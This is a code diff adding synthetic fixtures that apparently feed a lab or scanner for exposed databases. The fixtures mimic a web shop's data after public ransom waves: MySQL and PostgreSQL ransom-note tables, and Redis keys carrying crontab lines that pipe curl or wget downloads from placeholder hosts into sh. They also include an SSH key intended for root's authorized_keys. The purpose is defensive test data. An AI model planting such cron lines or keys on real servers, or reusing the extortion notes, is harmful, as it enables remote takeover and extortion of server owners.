@@ -6,6 +6,8 @@ that an ID, the birth date and the gender of one person agree and the data is th
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import json
 import random
 from dataclasses import dataclass
@@ -418,3 +420,142 @@ def memcached_items() -> dict[str, bytes]:
             f"<div class='news'><h2>{s.zh.sentence(5)}</h2><p>{s.zh.paragraph(2)}</p></div>".encode()
         )
     return items
+
+
+# --- attacked services: what the public ransom waves left behind -----------------------------------
+#
+# Every address, host and contact below is harmless: the Bitcoin addresses are the well-known examples of
+# the Bitcoin wiki and BIP-173 (valid checksums), the hosts and mail domains are under example.invalid
+# (never resolves), and the onion address and SSH key are derived from a hash (nobody holds their keys).
+
+FAKE_DOMAIN = "example.invalid"
+MYSQL_WAVE_BTC = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"
+"""BIP-173 test vector (P2WPKH, mainnet)."""
+NOTE_TABLE_BTC = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"
+"""The Bitcoin wiki's example address (P2PKH)."""
+
+
+def fake_onion(label: str) -> str:
+    """A v3 onion address with a valid checksum, built from a hash of `label` (no one holds its key)."""
+    key = hashlib.sha256(f"leaksonar lab onion: {label}".encode()).digest()
+    checksum = hashlib.sha3_256(b".onion checksum" + key + b"\x03").digest()[:2]
+    return base64.b32encode(key + checksum + b"\x03").decode().lower() + ".onion"
+
+
+def fake_ssh_key(label: str) -> str:
+    """An ed25519 public-key line whose key is a hash of `label` (no one holds a matching private key)."""
+    kind = b"ssh-ed25519"
+    blob = len(kind).to_bytes(4, "big") + kind + (32).to_bytes(4, "big")
+    blob += hashlib.sha256(f"leaksonar lab ssh key: {label}".encode()).digest()
+    return f"ssh-ed25519 {base64.b64encode(blob).decode()} root@{label}"
+
+
+MYSQL_WAVE_ONION = fake_onion("mysql wave")
+MYSQL_WAVE_EMAIL = f"rambler+7C1F3A@{FAKE_DOMAIN}"
+MYSQL_WAVE_NOTE = (
+    f"All your data is backed up. You must pay 0.03 BTC to {MYSQL_WAVE_BTC} In 48 hours, your data will be "
+    f"publicly disclosed and deleted. (more information: go to http://{MYSQL_WAVE_ONION}/) After paying send "
+    f"mail to us: {MYSQL_WAVE_EMAIL} and we will provide a link for you to download your data. "
+    "Your DBCODE is: 7C1F3A"
+)
+NOTE_TABLE_EMAIL = f"recoverdb@{FAKE_DOMAIN}"
+NOTE_TABLE_NOTE = (
+    f"All your data is a backed up. You must pay 0.04 BTC to {NOTE_TABLE_BTC} 48 hours for recover it. "
+    "After 48 hours expiration we will leaked and exposed all your data. In case of refusal to pay, we will "
+    "contact the General Data Protection Regulation, GDPR and notify them that you store user data in an "
+    "open form and is not safe. Under the rules of the law, you face a heavy fine or arrest and your base "
+    "dump will be dropped from our server! After paying write to me in the mail with your DB IP: "
+    f"{NOTE_TABLE_EMAIL} and you will receive a link to download your database dump."
+)
+
+CRON_KEYS = {
+    f"backup{i}": f"\n\n\n*/{i + 1} * * * * root {fetch} http://{host}.{FAKE_DOMAIN}/cr.sh | sh\n\n"
+    for i, (fetch, host) in enumerate(
+        (
+            ("cd1 -fsSL", "update"),
+            ("wget -q -O-", "update"),
+            ("curl -fsSL", "mirror"),
+            ("wd1 -q -O-", "mirror"),
+        ),
+        1,
+    )
+}
+"""The cron-job attack: crontab lines that fetch and run a script (`cd1`/`wd1` are renamed curl/wget)."""
+SSH_KEY_PLANT = {"crackit": f"\n\n\n{fake_ssh_key('crackit')}\n\n\n\n"}
+"""The "crackit" attack: an SSH public key padded with blank lines, meant for root's authorized_keys."""
+
+
+def redis_attacked() -> RedisData:
+    """db 0 after the cron-job attack: the attack's keys (backup1..4, crackit) among what the application
+    wrote again since the FLUSHALL: 3 user hashes, 4 sessions, a benign scheduled-job spec, a counter
+    (14 keys in all, few enough that an inspection samples every one)."""
+    s = Synth(SEED + 10)
+    users = {
+        f"user:{i}": {"name": p.name, "phone": p.phone, "email": p.email}
+        for i, p in enumerate(s.people(3), 1)
+    }
+    ordinary = dict(_session(s, s.rnd.randrange(1, 4)) for _ in range(4))
+    ordinary["cron:nightly_report"] = "0 3 * * * /usr/local/bin/report --daily"
+    ordinary["counter:visits"] = str(s.rnd.randrange(10**6))
+    return RedisData({0: users}, {0: {**CRON_KEYS, **SSH_KEY_PLANT, **ordinary}}, {})
+
+
+def _webshop(s: Synth, users: int) -> list[Table]:
+    """A small web shop's users and orders: what the attackers dump and drop."""
+    user = _people_table(
+        "users",
+        s.people(users, english_share=0.3),
+        {
+            "name": ("name", "VARCHAR(64)"),
+            "email": ("email", "VARCHAR(128)"),
+            "phone": ("phone", "VARCHAR(32)"),
+        },
+    )
+    orders = Table(
+        "orders",
+        (("id", "INTEGER PRIMARY KEY"), ("user_id", "INTEGER"), ("amount", "NUMERIC(10,2)")),
+        [(i, s.rnd.randrange(1, users + 1), s.money(5, 3000)) for i in range(1, 2 * users + 1)],
+    )
+    return [user, orders]
+
+
+def mysql_wave_dropped() -> list[Table]:
+    """MariaDB `webshop` as it was before the attack (created, then dropped by the attacker)."""
+    return _webshop(Synth(SEED + 11), 100)
+
+
+def mysql_wave_note() -> list[Table]:
+    """MariaDB `RECOVER_YOUR_DATA`: all that is left, one table with one row, the note."""
+    return [
+        Table(
+            "RECOVER_YOUR_DATA",
+            (
+                ("id", "INT PRIMARY KEY"),
+                ("warning", "TEXT"),
+                ("bitcoin_address", "VARCHAR(64)"),
+                ("email", "VARCHAR(128)"),
+            ),
+            [(1, MYSQL_WAVE_NOTE, MYSQL_WAVE_BTC, MYSQL_WAVE_EMAIL)],
+        )
+    ]
+
+
+def note_table_dropped() -> list[Table]:
+    """PostgreSQL `webapp`'s tables before the attack (dropped by the attacker)."""
+    return _webshop(Synth(SEED + 12), 100)
+
+
+def note_table_left() -> list[Table]:
+    """PostgreSQL `webapp` after the attack: the note table, and a leftover the attacker did not take."""
+    s = Synth(SEED + 13)
+    note = Table(
+        "readme",
+        (("id", "INTEGER PRIMARY KEY"), ("content", "TEXT"), ("btc", "TEXT"), ("email", "TEXT")),
+        [(1, NOTE_TABLE_NOTE, NOTE_TABLE_BTC, NOTE_TABLE_EMAIL)],
+    )
+    migrations = Table(
+        "schema_migrations",
+        (("version", "TEXT PRIMARY KEY"), ("applied_at", "TIMESTAMPTZ")),
+        [(f"2024{i:02d}{s.rnd.randrange(1, 28):02d}093000", s.moment(2024)) for i in range(1, 6)],
+    )
+    return [note, migrations]
